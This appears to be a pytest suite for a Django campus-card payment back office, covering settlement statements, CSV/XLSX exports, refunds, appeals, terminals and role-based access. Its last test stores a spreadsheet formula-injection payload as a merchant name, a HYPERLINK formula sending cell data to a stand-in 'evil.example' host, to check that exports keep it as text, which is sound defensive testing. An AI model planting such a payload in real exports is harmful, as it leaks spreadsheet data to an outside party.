"""Settlement (PAY-5) and the merchant back office (PAY-4 decisions, refunds, terminals, merchants).

Statements add up, days are the institution's (Asia/Shanghai), exports read back with the same totals,
and every page and action goes through the authorisation matrix: anonymous, wrong role, wrong
institution, a merchant operator of another merchant — refused or shown nothing, nothing changed.
"""

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils.translation import gettext
from openpyxl import load_workbook

from campuscard.core import clock
from campuscard.core.actors import Actor
from campuscard.core.errors import DomainError
from campuscard.core.models import AuditLog
from campuscard.devices.models import Device
from campuscard.ledger.models import Account
from campuscard.ledger.selectors import account_balances
from campuscard.payments import pos, settlement
from campuscard.payments.models import Appeal, Merchant, MerchantStaff, Payment, Refund, Terminal
from campuscard.payments.selectors import wallet_summary
from campuscard.support.models import Notification
from tests.authz import ANONYMOUS, Expect, Principal, assert_authorization

pytestmark = pytest.mark.django_db

SHANGHAI = clock.zone("Asia/Shanghai")
TAP = "04A1B2C3"
SETTLEMENT = reverse("admin:payments_settlement")
CSV = reverse("admin:payments_settlement_csv")
XLSX = reverse("admin:payments_settlement_xlsx")
PAYMENTS = reverse("admin:payments_payment_changelist")
APPEALS = reverse("admin:payments_appeal_changelist")


@pytest.fixture
def day(institution) -> dt.date:
    """A local day a little ahead of the real one, so every frozen moment is after the fixtures' setup."""
    return clock.local_date(institution) + dt.timedelta(days=2)


def at(day: dt.date, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour, minute), tzinfo=SHANGHAI)


def tap(terminal: Terminal, txn: str, amount: int, when: dt.datetime) -> Payment:
    with clock.frozen_at(when):
        return Payment.objects.get(pk=pos.payment_authorize(terminal=terminal, txn_id=txn, amount=amount,
                                                            nfc_uid=TAP).payment_id)


@pytest.fixture
def shop(institution):
    return pos.merchant_open(actor=Actor.system("t"), institution=institution, code="market", name="教育超市",
                             category="supermarket")


@pytest.fixture
def shop_terminal(institution, shop):
    from campuscard.devices.services import device_register

    device, _secret = device_register(actor=Actor.system("t"), institution=institution, kind=Device.Kind.POS, code="pos-shop",
                                      name="Till 1")
    return Terminal.objects.create(device=device, merchant=shop, counter="1号收银台")


@pytest.fixture
def other_canteen(other_institution):
    return pos.merchant_open(actor=Actor.system("t"), institution=other_institution, code="other-canteen", name="外校食堂",
                             category="canteen")


@pytest.fixture
def users(institution, other_institution, make_operator, canteen, shop, other_canteen):
    def merchant_operator(merchant, username):
        user = make_operator(merchant.institution, "merchant_operator", username=username)
        MerchantStaff.objects.create(user=user, merchant=merchant)
        return user

    return SimpleNamespace(
        operator=make_operator(institution, "card_center_operator"),
        admin=make_operator(institution, "institution_admin"),
        auditor=make_operator(institution, "auditor"),
        zone=make_operator(institution, "zone_manager"),
        canteen_op=merchant_operator(canteen, "canteen-cashier"),
        shop_op=merchant_operator(shop, "shop-cashier"),
        unlinked=make_operator(institution, "merchant_operator", username="unlinked-cashier"),
        other_op=make_operator(other_institution, "card_center_operator"),
        platform=make_operator(None, None),
    )


@pytest.fixture
def trading_day(day, terminal, shop_terminal, funded, student):
    """Canteen: ¥12.50 at 08:05, ¥8.00 at 12:10 (¥3.00 refunded), ¥15.00 at 12:30 (appeal accepted);
    supermarket: ¥30.00 at 18:00."""
    term, _secret = terminal
    breakfast = tap(term, "c1", 1_250, at(day, 8, 5))
    lunch = tap(term, "c2", 800, at(day, 12, 10))
    double = tap(term, "c3", 1_500, at(day, 12, 30))
    tap(shop_terminal, "s1", 3_000, at(day, 18))
    with clock.frozen_at(at(day, 12, 40)):
        pos.payment_refund(actor=Actor.system("cashier"), payment=lunch, amount=300, reason="少打了一个菜")
        appeal = pos.appeal_open(actor=Actor.system("holder"), person=student, payment=double, reason="刷了两次")
    with clock.frozen_at(at(day, 15)):
        pos.appeal_decide(actor=Actor.system("center"), appeal=appeal, accept=True)
    return SimpleNamespace(breakfast=breakfast, lunch=lunch, double=double)


def report(user, institution, start, end=None, merchant=None):
    return settlement.settlement_report(user=user, period=settlement.Period(institution, start, end or start),
                                        merchant=merchant)


# --- statements ----------------------------------------------------------------------------------


def test_statements_add_up(trading_day, users, institution, day, canteen, shop):
    result = report(users.operator, institution, day)
    lines = {line.merchant.code: line for line in result.by_merchant}
    food, market = lines["xueyuan"], lines["market"]
    assert (food.count, food.takings, food.refunds, food.appeals, food.net) == (3, 3_550, 300, 1_500, 1_750)
    assert (market.count, market.takings, market.refunds, market.appeals, market.net) == (1, 3_000, 0, 0, 3_000)
    total = result.total
    assert (total.count, total.takings, total.refunds, total.appeals) == (4, 6_550, 300, 1_500)
    assert total.net == total.takings - total.refunds - total.appeals == food.net + market.net == 4_750
    assert result.by_hour[8] == 1_250 and result.by_hour[12] == 2_300 and result.by_hour[18] == 3_000
    assert sum(result.by_hour) == total.takings
    # LED-5: a day's net is exactly what moved into the merchant's takings account that day
    assert account_balances(account_id=canteen.account_id).posted == food.net
    assert account_balances(account_id=shop.account_id).posted == market.net
    # the merchant's own daily statement is the same line
    statement = settlement.merchant_statement(user=users.canteen_op, merchant=canteen, day=day)
    assert (statement.takings, statement.refunds, statement.appeals, statement.net) == (3_550, 300, 1_500, 1_750)


def test_a_day_is_the_institutions_local_day(day, terminal, funded, student, users, institution, canteen):
    """23:59 and 00:01 in Shanghai are 15:59 and 16:01 UTC of the *same* UTC day — yet two local days."""
    term, _secret = terminal
    late = tap(term, "late", 1_000, at(day, 23, 59))
    early = tap(term, "early", 700, at(day + dt.timedelta(days=1), 0, 1))
    assert late.created_at.astimezone(dt.UTC).date() == early.created_at.astimezone(dt.UTC).date()
    with clock.frozen_at(at(day + dt.timedelta(days=1), 9)):
        appeal = pos.appeal_open(actor=Actor.system("holder"), person=student, payment=late, reason="不是我")
        pos.appeal_decide(actor=Actor.system("center"), appeal=appeal, accept=True)

    first = report(users.operator, institution, day, merchant=canteen)
    assert (first.total.count, first.total.takings, first.total.appeals, first.total.net) == (1, 1_000, 0, 1_000)
    assert first.by_hour[23] == 1_000 and sum(first.by_hour) == 1_000
    second = report(users.operator, institution, day + dt.timedelta(days=1), merchant=canteen)
    # the appeal counts on the day it was accepted, not on the day of the payment
    assert (second.total.count, second.total.takings, second.total.appeals, second.total.net) == (1, 700, 1_000,
                                                                                                   -300)
    assert second.by_hour[0] == 700
    both = report(users.operator, institution, day, day + dt.timedelta(days=1), merchant=canteen)
    assert [(line.day, line.takings, line.appeals) for line in both.lines] == [
        (day, 1_000, 0), (day + dt.timedelta(days=1), 700, 1_000)]
    assert both.total.net == first.total.net + second.total.net == 700
    assert account_balances(account_id=canteen.account_id).posted == both.total.net


def test_a_daily_statement_lists_merchants_that_took_nothing(users, institution, day, canteen, shop):
    result = report(users.operator, institution, day)
    assert [(line.merchant.code, line.net) for line in result.lines] == [("market", 0), ("xueyuan", 0)]
    assert result.total.net == 0


# --- exports -------------------------------------------------------------------------------------


def test_csv_and_xlsx_downloads_read_back_with_the_same_totals(client, trading_day, users, institution, day):
    client.force_login(users.operator)
    query = {"start": day.isoformat()}
    expected = report(users.operator, institution, day).total

    response = client.get(CSV, query)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert f"settlement-uni-{day.isoformat()}.csv" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for spreadsheet programs
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, lines, totals = rows[0], rows[1:-1], rows[-1]
    assert len(header) == 8 and len(lines) == 2
    assert {row[1]: row[2] for row in lines} == {"xueyuan": "学苑餐厅", "market": "教育超市"}
    fen = [[round(float(v) * 100) for v in row[4:]] for row in lines]
    assert [sum(col) for col in zip(*fen, strict=True)] == [round(float(v) * 100) for v in totals[4:]]
    assert totals[3:] == [str(expected.count), "65.50", "3.00", "15.00", "47.50"]

    response = client.get(XLSX, query)
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    lines, totals = rows[1:-1], rows[-1]
    assert [row[1] for row in lines] == ["market", "xueyuan"]
    assert all(isinstance(v, int | float) for row in rows[1:] for v in row[3:])
    assert [round(v * 100) for v in totals[4:]] == [expected.takings, expected.refunds, expected.appeals,
                                                     expected.net]
    for col in range(4, 8):
        assert round(sum(row[col] for row in lines) * 100) == round(totals[col] * 100)
    assert sheet.cell(row=2, column=5).number_format == "#,##0.00"
    assert sheet.cell(row=len(rows), column=8).font.bold


def test_exports_of_a_range_have_a_line_per_day_and_merchant(client, day, terminal, funded, users, canteen):
    term, _secret = terminal
    tap(term, "d1", 1_000, at(day, 11))
    tap(term, "d2", 2_000, at(day + dt.timedelta(days=2), 11))
    client.force_login(users.operator)
    end = day + dt.timedelta(days=2)
    response = client.get(CSV, {"start": day.isoformat(), "end": end.isoformat()})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert [(r[0], r[1], r[4]) for r in rows] == [
        (day.isoformat(), "xueyuan", "10.00"), (end.isoformat(), "xueyuan", "20.00"),
        (f"{day.isoformat()} – {end.isoformat()}", "", "30.00")]
    bad = client.get(CSV, {"start": end.isoformat(), "end": day.isoformat()})
    assert bad.status_code == 400


# --- who sees what --------------------------------------------------------------------------------


def payments_state():
    return (tuple(Payment.objects.order_by("pk").values_list("pk", "refunded")),
            tuple(Refund.objects.order_by("pk").values_list("pk", "amount", "kind")),
            tuple(Appeal.objects.order_by("pk").values_list("pk", "state", "decision")),
            AuditLog.objects.count())


def html(response) -> str:
    return response.content.decode()


def test_settlement_page_authorization(trading_day, users, day):
    url = f"{SETTLEMENT}?start={day.isoformat()}"

    def shows_ours(response):
        page = html(response)
        assert "学苑餐厅" in page and "教育超市" in page and "外校食堂" not in page
        assert response.context["report"].total.net == 4_750
        assert 'id="settlement-csv"' in page and "unfold/components/chart" not in page
        assert page.count('class="chart"') == 2  # takings by hour and by merchant

    def shows_only_theirs(response):
        page = html(response)
        assert "学苑餐厅" not in page and "教育超市" not in page and "外校食堂" in page
        assert response.context["report"].total.takings == 0

    assert_authorization(
        lambda client: client.get(url),
        anonymous=Expect(ANONYMOUS, 302, lambda r: r.url.startswith(reverse("admin:login"))),
        wrong_role=Expect(Principal.session(users.zone), 403),
        wrong_institution=Expect(Principal.session(users.other_op), 200, shows_only_theirs),
        allowed=Expect(Principal.session(users.operator), 200, shows_ours),
        snapshot=payments_state,
    )


def test_merchant_operators_see_only_their_own_merchant(client, trading_day, users, day, canteen):
    client.force_login(users.shop_op)
    page = client.get(SETTLEMENT, {"start": day.isoformat()})
    result = page.context["report"]
    assert [m.code for m in result.merchants] == ["market"] and result.total.net == 3_000
    assert "学苑餐厅" not in html(page)
    # asking for the canteen by id is refused, not answered
    asked = client.get(SETTLEMENT, {"start": day.isoformat(), "merchant": canteen.pk})
    assert asked.context["report"] is None and "merchant" in asked.context["form"].errors
    assert client.get(CSV, {"start": day.isoformat(), "merchant": canteen.pk}).status_code == 400
    rows = list(csv.reader(io.StringIO(client.get(CSV, {"start": day.isoformat()}).content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:-1]] == ["market"]
    with pytest.raises(DomainError):
        report(users.shop_op, canteen.institution, day, merchant=canteen)

    # the back-office lists, too
    client.force_login(users.canteen_op)
    listed = client.get(PAYMENTS).context["cl"].result_list
    assert {p.txn_id for p in listed} == {"c1", "c2", "c3"}
    assert {a.payment.txn_id for a in client.get(APPEALS).context["cl"].result_list} == {"c3"}
    refunds = client.get(reverse("admin:payments_refund_changelist")).context["cl"].result_list
    assert {r.payment.txn_id for r in refunds} == {"c2", "c3"}
    merchants = client.get(reverse("admin:payments_merchant_changelist")).context["cl"].result_list
    assert [m.code for m in merchants] == ["xueyuan"]
    terminals = client.get(reverse("admin:payments_terminal_changelist")).context["cl"].result_list
    assert [t.device.code for t in terminals] == ["pos-1"]
    other = Payment.objects.get(txn_id="s1")
    assert client.get(reverse("admin:payments_payment_change", args=[other.pk])).status_code == 302

    # a merchant operator linked to no merchant sees nothing at all
    client.force_login(users.unlinked)
    assert client.get(SETTLEMENT, {"start": day.isoformat()}).context["report"].total.takings == 0
    assert not client.get(PAYMENTS).context["cl"].result_list


def test_the_merchant_changelist_links_to_settlement(client, users, canteen):
    client.force_login(users.operator)
    page = html(client.get(reverse("admin:payments_merchant_changelist")))
    assert f'href="{SETTLEMENT}"' in page and 'id="settlement-link"' in page
    client.force_login(users.zone)
    assert client.get(reverse("admin:payments_merchant_changelist")).status_code == 403


# --- refunds through the admin --------------------------------------------------------------------


def action(name, *pks):
    return {"action": name, "_selected_action": [str(pk) for pk in pks], "index": "0", "select_across": "0"}


def test_refund_action_authorization(users, day, terminal, funded, student):
    term, _secret = terminal
    payment = tap(term, "r1", 2_000, at(day, 12))
    data = action("refund_same_day", payment.pk)
    with clock.frozen_at(at(day, 13)):
        assert_authorization(
            lambda client: client.post(PAYMENTS, data),
            anonymous=Expect(ANONYMOUS, 302),
            wrong_role=Expect(Principal.session(users.auditor), (200, 302)),  # may look, may not refund
            wrong_institution=Expect(Principal.session(users.other_op), 302),
            allowed=Expect(Principal.session(users.canteen_op), 302),
            snapshot=payments_state,
            writes=True,
        )
        for refused in (users.shop_op, users.zone, users.unlinked):  # another merchant's cashier, no role, no link
            before = payments_state()
            client = Principal.session(refused).client()
            assert client.post(PAYMENTS, data).status_code in (302, 403)
            assert payments_state() == before
    payment.refresh_from_db()
    assert payment.refunded == 2_000
    refund = Refund.objects.get(payment=payment)
    assert (refund.kind, refund.amount) == (Refund.Kind.REFUND, 2_000)
    assert wallet_summary(student).balances.available == 50_000


def test_refund_refusals_are_reported_by_their_message(client, users, day, terminal, funded):
    term, _secret = terminal
    yesterday = tap(term, "old", 500, at(day, 9))
    today = tap(term, "new", 600, at(day + dt.timedelta(days=1), 9))
    client.force_login(users.operator)
    with clock.frozen_at(at(day + dt.timedelta(days=1), 10)):
        response = client.post(PAYMENTS, action("refund_same_day", yesterday.pk, today.pk), follow=True)
    texts = [str(m) for m in get_messages(response.wsgi_request)]
    assert any("old" in t and str(DomainError("refund_window_closed").message) in t for t in texts)
    assert gettext("%(count)s payment(s) refunded.") % {"count": 1} in texts
    yesterday.refresh_from_db()
    today.refresh_from_db()
    assert (yesterday.refunded, today.refunded) == (0, 600)


def test_partial_refund_from_the_payment_page(client, users, day, terminal, funded):
    term, _secret = terminal
    payment = tap(term, "p1", 2_000, at(day, 12))
    url = reverse("admin:payments_payment_refund", args=[payment.pk])
    client.force_login(users.canteen_op)
    with clock.frozen_at(at(day, 12, 5)):
        page = client.get(reverse("admin:payments_payment_change", args=[payment.pk]))
        assert page.status_code == 200 and 'id="payment-refund-form"' in html(page)
        assert client.post(url, {"amount": "5.50", "reason": "少一份"}).status_code == 302
        too_much = client.post(url, {"amount": "20"}, follow=True)
        assert DomainError("refund_exceeds_payment", left="¥14.50").message in html(too_much)
        client.force_login(users.shop_op)
        assert client.post(url, {"amount": "1"}).status_code == 404
        client.force_login(users.auditor)
        assert client.post(url, {"amount": "1"}).status_code == 403
        assert 'id="payment-refund-form"' not in html(
            client.get(reverse("admin:payments_payment_change", args=[payment.pk])))
    payment.refresh_from_db()
    assert payment.refunded == 550


# --- appeals through the admin --------------------------------------------------------------------


@pytest.fixture
def appeal(day, terminal, funded, student):
    term, _secret = terminal
    payment = tap(term, "a1", 1_800, at(day, 12))
    with clock.frozen_at(at(day, 13)):
        return pos.appeal_open(actor=Actor.system("holder"), person=student, payment=payment, reason="我没有消费")


def test_appeals_are_listed_open_first(client, users, day, terminal, funded, student, appeal):
    term, _secret = terminal
    earlier = tap(term, "a0", 900, at(day, 11))
    with clock.frozen_at(at(day, 14)):
        decided = pos.appeal_open(actor=Actor.system("holder"), person=student, payment=earlier, reason="x")
        pos.appeal_decide(actor=Actor.system("center"), appeal=decided, accept=False, reason="已核实")
    newest = tap(term, "a2", 700, at(day, 16))
    with clock.frozen_at(at(day, 16, 30)):
        pos.appeal_open(actor=Actor.system("holder"), person=student, payment=newest, reason="y")
    client.force_login(users.operator)
    listed = [a.payment.txn_id for a in client.get(APPEALS).context["cl"].result_list]
    assert listed == ["a2", "a1", "a0"]


def test_accept_action_refunds_and_notifies(users, appeal, student):
    data = action("accept", appeal.pk)
    with clock.frozen_at(appeal.created_at + dt.timedelta(hours=1)):
        assert_authorization(
            lambda client: client.post(APPEALS, data),
            anonymous=Expect(ANONYMOUS, 302),
            wrong_role=Expect(Principal.session(users.zone), 403),
            wrong_institution=Expect(Principal.session(users.other_op), 302),
            allowed=Expect(Principal.session(users.canteen_op), 302),
            snapshot=payments_state,
            writes=True,
        )
    appeal.refresh_from_db()
    assert appeal.state == Appeal.State.ACCEPTED and appeal.decided_by == users.canteen_op
    assert Refund.objects.get(payment=appeal.payment).kind == Refund.Kind.APPEAL
    assert wallet_summary(student).balances.available == 50_000
    assert Notification.objects.filter(person=student, kind=Notification.Kind.APPEAL).count() == 1


def test_another_merchants_cashier_cannot_decide(client, users, appeal):
    before = payments_state()
    client.force_login(users.shop_op)
    assert client.post(APPEALS, action("accept", appeal.pk)).status_code == 302
    assert client.post(reverse("admin:payments_appeal_accept", args=[appeal.pk])).status_code == 404
    change = reverse("admin:payments_appeal_change", args=[appeal.pk])
    assert client.post(change, {"decision": "不予受理"}).status_code == 302
    assert payments_state() == before


def test_reject_through_the_change_form_needs_a_reason(client, users, appeal, student):
    url = reverse("admin:payments_appeal_change", args=[appeal.pk])
    client.force_login(users.operator)
    page = client.get(url)
    assert page.status_code == 200 and 'id="appeal-accept-form"' in html(page)
    before = payments_state()
    empty = client.post(url, {"decision": "  "})
    assert empty.status_code == 200 and "decision" in empty.context["adminform"].form.errors
    assert payments_state() == before
    done = client.post(url, {"decision": "监控显示为本人消费"})
    assert done.status_code == 302 and done.url == APPEALS
    appeal.refresh_from_db()
    assert (appeal.state, appeal.decision, appeal.decided_by) == (Appeal.State.REJECTED, "监控显示为本人消费",
                                                                  users.operator)
    assert not Refund.objects.exists()
    assert Notification.objects.get(person=student, kind=Notification.Kind.APPEAL)
    # decided: read-only from now on; a second decision changes nothing
    after = payments_state()
    assert client.post(url, {"decision": "again"}).status_code == 403
    assert 'id="appeal-accept-form"' not in html(client.get(url))
    assert client.post(reverse("admin:payments_appeal_accept", args=[appeal.pk])).status_code == 403
    assert payments_state() == after


def test_accept_from_the_appeal_page(client, users, appeal, student):
    client.force_login(users.canteen_op)
    with clock.frozen_at(appeal.created_at + dt.timedelta(hours=2)):
        response = client.post(reverse("admin:payments_appeal_accept", args=[appeal.pk]))
    assert response.status_code == 302 and response.url == APPEALS
    appeal.refresh_from_db()
    assert appeal.state == Appeal.State.ACCEPTED
    assert wallet_summary(student).balances.available == 50_000


# --- merchants and terminals through the admin ----------------------------------------------------


def test_merchant_add_opens_the_takings_account(client, users, institution):
    client.force_login(users.operator)
    data = {"code": "print-1", "name": "图文打印", "name_en": "Print shop", "category": "print_shop",
            "building": "", "active": "on", "_save": "Save"}
    response = client.post(reverse("admin:payments_merchant_add"), data)
    assert response.status_code == 302, response.content[:500]
    merchant = Merchant.objects.get(code="print-1")
    assert merchant.institution == institution and merchant.account.kind == Account.Kind.MERCHANT
    assert AuditLog.objects.filter(action="merchant_opened", object_id=str(merchant.pk)).exists()
    again = client.post(reverse("admin:payments_merchant_add"), data)
    assert again.status_code == 200 and again.context["adminform"].form.errors
    assert Merchant.objects.filter(code="print-1").count() == 1
    for refused in (users.canteen_op, users.zone):
        client.force_login(refused)
        assert client.post(reverse("admin:payments_merchant_add"), {**data, "code": "x"}).status_code == 403
    assert not Merchant.objects.filter(code="x").exists()


def test_terminal_registration_shows_the_secret_once(client, users, canteen, other_canteen):
    client.force_login(users.operator)
    add = reverse("admin:payments_terminal_add")
    form = client.get(add).context["adminform"].form
    assert set(form.fields["merchant"].queryset) == {canteen, Merchant.objects.get(code="market")}
    data = {"merchant": canteen.pk, "counter": "5号窗口", "device_code": "pos-5", "device_name": "Window 5",
            "service_point": "", "_save": "Save"}
    response = client.post(add, data, follow=True)
    assert response.status_code == 200
    device = Device.objects.get(code="pos-5")
    assert device.kind == Device.Kind.POS and device.institution == canteen.institution
    terminal = Terminal.objects.get(device=device)
    assert (terminal.merchant, terminal.counter) == (canteen, "5号窗口")
    warnings = [str(m) for m in get_messages(response.wsgi_request) if m.level_tag == "warning"]
    assert len(warnings) == 1 and device.secret in warnings[0]
    assert device.secret not in html(client.get(reverse("admin:payments_terminal_change", args=[terminal.pk])))
    # a used device id is a form error; another institution's merchant is not a choice
    again = client.post(add, data)
    assert again.status_code == 200 and "device_code" in again.context["adminform"].form.errors
    foreign = client.post(add, {**data, "device_code": "pos-6", "merchant": other_canteen.pk})
    assert foreign.status_code == 200 and "merchant" in foreign.context["adminform"].form.errors
    assert not Device.objects.filter(code="pos-6").exists()
    client.force_login(users.canteen_op)  # cashiers see terminals, they do not register them
    assert client.post(add, {**data, "device_code": "pos-7"}).status_code == 403
    assert not Device.objects.filter(code="pos-7").exists()


def test_payments_list_filters_by_local_day(client, users, day, terminal, funded):
    term, _secret = terminal
    tap(term, "late", 1_000, at(day, 23, 59))
    tap(term, "early", 700, at(day + dt.timedelta(days=1), 0, 1))
    client.force_login(users.operator)
    response = client.get(PAYMENTS, {"created_at_from": day.isoformat(), "created_at_to": day.isoformat()})
    assert [p.txn_id for p in response.context["cl"].result_list] == ["late"]
    response = client.get(PAYMENTS, {"created_at_from": (day + dt.timedelta(days=1)).isoformat()})
    assert [p.txn_id for p in response.context["cl"].result_list] == ["early"]
    assert [p.txn_id for p in client.get(PAYMENTS, {"q": "early"}).context["cl"].result_list] == ["early"]


def test_platform_admin_picks_the_institution(client, users, trading_day, day, institution, other_institution):
    client.force_login(users.platform)
    first = client.get(SETTLEMENT, {"start": day.isoformat()})  # by default the first institution by code
    assert 'name="institution"' in html(first) and first.context["report"].period.institution == other_institution
    ours = client.get(SETTLEMENT, {"start": day.isoformat(), "institution": institution.pk})
    assert ours.context["report"].total.net == 4_750
    theirs = client.get(SETTLEMENT, {"start": day.isoformat(), "institution": other_institution.pk})
    assert [m.code for m in theirs.context["report"].merchants] == ["other-canteen"]
    client.force_login(users.operator)  # an operator never picks: the parameter is ignored
    assert client.get(SETTLEMENT, {"start": day.isoformat(), "institution": other_institution.pk}).context[
        "report"].total.net == 4_750


def test_institution_admin_links_a_cashier_to_the_merchant(client, users, canteen, shop, make_operator,
                                                           other_institution):
    cashier = make_operator(canteen.institution, "merchant_operator", username="new-cashier")
    foreign = make_operator(other_institution, "merchant_operator", username="foreign-cashier")
    url = reverse("admin:payments_merchant_change", args=[canteen.pk])

    def form(user):
        return {"name": canteen.name, "name_en": "", "category": "canteen", "building": "", "active": "on",
                "staff-TOTAL_FORMS": "1", "staff-INITIAL_FORMS": "0", "staff-MIN_NUM_FORMS": "0",
                "staff-MAX_NUM_FORMS": "1000", "staff-0-user": str(user.pk), "staff-0-id": "",
                "staff-0-merchant": str(canteen.pk), "_save": "Save"}

    client.force_login(users.admin)
    refused = client.post(url, form(foreign))  # another institution's user is not a choice (TEN-1)
    assert refused.status_code == 200 and not MerchantStaff.objects.filter(user=foreign).exists()
    assert client.post(url, form(cashier)).status_code == 302
    assert MerchantStaff.objects.get(user=cashier).merchant == canteen
    client.force_login(cashier)
    assert [m.code for m in client.get(reverse("admin:payments_merchant_changelist")).context["cl"].result_list] \
        == ["xueyuan"]


def test_revoking_a_terminal_takes_effect_at_once(client, users, terminal):
    term, _secret = terminal
    client.force_login(users.canteen_op)  # may look at terminals, may not revoke them
    client.post(reverse("admin:payments_terminal_changelist"), action("revoke", term.pk))
    term.device.refresh_from_db()
    assert term.device.revoked_at is None
    client.force_login(users.operator)
    assert client.post(reverse("admin:payments_terminal_changelist"), action("revoke", term.pk)).status_code == 302
    term.device.refresh_from_db()
    assert term.device.revoked_at is not None


def test_a_merchant_named_like_a_formula_stays_text_in_both_downloads(client, trading_day, users, institution, day,
                                                                       shop):
    """#18 item 9: a merchant named ``=HYPERLINK(…)`` was a live formula in the settlement XLSX."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    Merchant.objects.filter(pk=shop.pk).update(name=evil)
    client.force_login(users.operator)
    rows = list(csv.reader(io.StringIO(client.get(CSV, {"start": day.isoformat()}).content.decode("utf-8-sig"))))
    assert "'" + evil in [row[2] for row in rows]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    sheet = load_workbook(io.BytesIO(client.get(XLSX, {"start": day.isoformat()}).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil]
    assert len(cells) == 1 and cells[0].data_type == "s"  # text, not a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
